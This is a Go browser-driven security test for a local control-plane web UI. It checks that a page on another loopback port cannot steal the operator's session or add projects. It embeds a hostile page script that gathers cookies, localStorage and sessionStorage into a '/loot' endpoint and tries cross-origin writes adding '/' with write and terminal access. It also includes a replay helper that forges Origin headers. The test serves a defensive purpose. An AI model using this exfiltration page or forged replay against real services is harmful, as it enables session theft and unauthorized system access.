package geturl

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/hubdev/hub/adapters/adaptertest"
	"github.com/hubdev/hub/geturl/control"
)

// otherUser is a page another local user serves on another 127.0.0.1
// port. Browsers do not scope cookies by port, and SameSite does not
// separate loopback ports, so whatever the operator's browser holds for
// 127.0.0.1 is sent along with the page and its requests. The page sends
// its server everything it can read, and tries the control plane's API
// from the browser; the server records every Cookie header it receives.
type otherUser struct {
	srv *httptest.Server

	mu      sync.Mutex
	cookies []string // every Cookie header received
	loot    []string // what the page read and sent back
}

func newOtherUser(t *testing.T, control string) *otherUser {
	o := &otherUser{}
	page := `<!doctype html><meta charset="utf-8"><title>someone else's page</title><body><script>
(async () => {
  const ctrl = ` + strconv.Quote(control) + `;
  const loot = { cookie: document.cookie, local: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) };
  await fetch("/loot", { method: "POST", body: JSON.stringify(loot) });
  const tries = {};
  const attempt = async (name, path, init) => {
    try {
      const r = await fetch(ctrl + path, init);
      tries[name] = "answered " + r.status + " " + (await r.text());
    } catch (e) { tries[name] = "blocked: " + e; }
  };
  await attempt("read", "/ui/api/state", { credentials: "include" });
  await attempt("read with a guessed header", "/ui/api/state", { credentials: "include", headers: { "X-Geturl-Session": "guess" } });
  await attempt("write", "/ui/api/projects", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ dir: "/", name: "fromthepage", write: true, terminal: true }) });
  // A no-cors write goes out (its answer is opaque); the gate must refuse it.
  try {
    await fetch(ctrl + "/ui/api/projects", { method: "POST", mode: "no-cors", credentials: "include",
      body: JSON.stringify({ dir: "/", name: "nocors", write: true, terminal: true }) });
  } catch (e) {}
  document.body.dataset.tries = JSON.stringify(tries);
  document.body.dataset.done = "yes";
})();
</script></body>`
	o.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<10))
		o.mu.Lock()
		o.cookies = append(o.cookies, r.Header.Values("Cookie")...)
		if r.URL.Path == "/loot" {
			o.loot = append(o.loot, string(body))
		}
		o.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	t.Cleanup(o.srv.Close)
	return o
}

// received is everything the other user's server got: Cookie headers and
// the page's loot.
func (o *otherUser) received() (cookies, loot []string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.cookies...), append([]string(nil), o.loot...)
}

// The report's attack, in a real browser: the operator logs in to the
// control page; later, in the same browser, a page another local user
// serves on another 127.0.0.1 port gets no credential for the control
// page — not in its Cookie headers, not in what its script can read —
// and its own requests to the page's API fail. Replaying what it got
// with a forged Origin (as a local user can, with any HTTP client) adds
// no project. The operator's tab keeps working, across a reload.
func TestControlPageCredentialStaysOnItsPort(t *testing.T) {
	adaptertest.RequireChromium(t)
	b := startBridge(t, nil)
	b.project(t, t.TempDir(), "webapp", false)
	own := b.controlURL("")

	ctx, cancel := adaptertest.Chromium(t, context.Background())
	defer cancel()
	ctx, cancelT := context.WithTimeout(ctx, 60*time.Second)
	defer cancelT()
	run := func(ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, steps...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	eval := func(ctx context.Context, what, expr string) string {
		t.Helper()
		s, err := chromedp.Run(ctx, chromedp.Evaluate[string](expr))
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		return s
	}

	// The operator's tab logs in through the real login URL, as `hub
	// geturl open --browser` hands it over: a private page redirecting to it.
	var login struct{ URL string }
	b.call(t, "POST", "/api/login", nil, &login)
	opener, err := control.RedirectPage(filepath.Join(t.TempDir(), "state"), login.URL)
	if err != nil {
		t.Fatal(err)
	}
	run(ctx, "log in", chromedp.Navigate("file://"+opener), chromedp.WaitVisible(`body[data-ready="yes"]`))
	secret := eval(ctx, "read the tab's session", `sessionStorage.getItem("geturl.session") || ""`)

	// Later, in the same browser, the other user's page.
	other := newOtherUser(t, own)
	tab, cancelTab := chromedp.NewContext(ctx)
	defer cancelTab()
	run(tab, "open the other user's page", chromedp.Navigate(other.srv.URL), chromedp.WaitVisible(`body[data-done="yes"]`))
	cookies, loot := other.received()
	if len(loot) != 1 {
		t.Fatalf("the other page sent %d reports, want 1", len(loot))
	}
	for _, c := range cookies {
		if strings.Contains(c, "geturl") {
			t.Errorf("the other user's server received the control page's cookie: Cookie: %s", c)
		}
	}

	// The other user replays everything it received at the control plane,
	// with the page's own Origin forged, as the cookie and as the header.
	var values []string
	for _, c := range cookies {
		req := http.Request{Header: http.Header{"Cookie": {c}}}
		for _, ck := range req.Cookies() {
			values = append(values, ck.Value)
		}
	}
	var report map[string]string
	json.Unmarshal([]byte(loot[0]), &report)
	for _, v := range report {
		values = append(values, v)
		var kv map[string]string
		if json.Unmarshal([]byte(v), &kv) == nil {
			for _, v := range kv {
				values = append(values, v)
			}
		}
	}
	for _, c := range cookies {
		replay(t, own, "Cookie", c)
	}
	for _, v := range values {
		if v != "" {
			replay(t, own, "Cookie", "geturl_ui="+v)
			replay(t, own, "X-Geturl-Session", v)
		}
	}
	for _, p := range b.s.mgr.Projects() {
		if p.Name != "webapp" {
			t.Errorf("the other user added project %q (root %s, write %v, terminal %v)", p.Name, p.Root, p.Write, p.Terminal)
		}
	}
	if t.Failed() {
		t.FailNow()
	}

	// The page's own tries at the API from the browser fail.
	var tries map[string]string
	if err := json.Unmarshal([]byte(eval(tab, "read the other page's tries", `document.body.dataset.tries`)), &tries); err != nil || len(tries) != 3 {
		t.Fatalf("the other page's tries: %v %v", tries, err)
	}
	for name, got := range tries {
		if !strings.HasPrefix(got, "blocked: ") {
			t.Errorf("the other page's %s: %s, want it blocked by the browser", name, got)
		}
	}
	if secret == "" {
		t.Fatal("the operator's tab keeps no session after the login")
	}
	for _, l := range append(cookies, loot...) {
		if strings.Contains(l, secret) {
			t.Fatalf("the other user's server received the operator's session secret: %s", l)
		}
	}

	// The operator's tab still works, also after a reload (the session is
	// the tab's), and the login token left the address bar and history.
	run(ctx, "reload the operator's tab", chromedp.Reload(), chromedp.WaitVisible(`body[data-ready="yes"]`))
	if h := eval(ctx, "read the tab's URL", `location.href`); strings.Contains(h, "login") {
		t.Fatalf("the login token stayed in the tab's URL: %s", h)
	}
	run(ctx, "create a session from the operator's tab",
		chromedp.SendKeys("#session-label", "operator"),
		chromedp.Click(`#session-form button[type="submit"]`),
		chromedp.WaitVisible(`.session .init-url`),
	)
	if n := len(b.s.mgr.List()); n != 1 {
		t.Fatalf("sessions after the operator's tab created one: %d", n)
	}

	// Another tab on the control page has no session of its own: the
	// operator runs `hub geturl open` for it.
	run(tab, "open the control page in the other tab", chromedp.Navigate(own+"/"), chromedp.WaitVisible(`#login`))

	// Logging out ends the session on the server too.
	run(ctx, "log out", chromedp.Click(`#logout`), chromedp.WaitVisible(`#login`))
	if got := eval(ctx, "read the tab's session", `sessionStorage.getItem("geturl.session") || ""`); got != "" {
		t.Fatalf("the tab kept its session after logging out")
	}
	req, _ := http.NewRequest("GET", own+"/ui/api/state", nil)
	req.Header.Set(control.SessionHeader, secret)
	if got := do(t, req); got != http.StatusUnauthorized {
		t.Fatalf("the logged-out session: %d, want 401", got)
	}
}

// replay is the other local user at the control plane with what it got
// (it can forge any header): add / as a project with write and terminal.
func replay(t *testing.T, own, header, value string) {
	t.Helper()
	body := `{"dir":"/","name":"root` + strconv.Itoa(len(value)) + `","write":true,"terminal":true}`
	req, _ := http.NewRequest("POST", own+"/ui/api/projects", strings.NewReader(body))
	req.Header.Set("Origin", own)
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(header, value)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode == http.StatusOK {
		t.Errorf("replaying a %d-byte %s it received, with a forged Origin, added a project", len(value), header)
	}
}
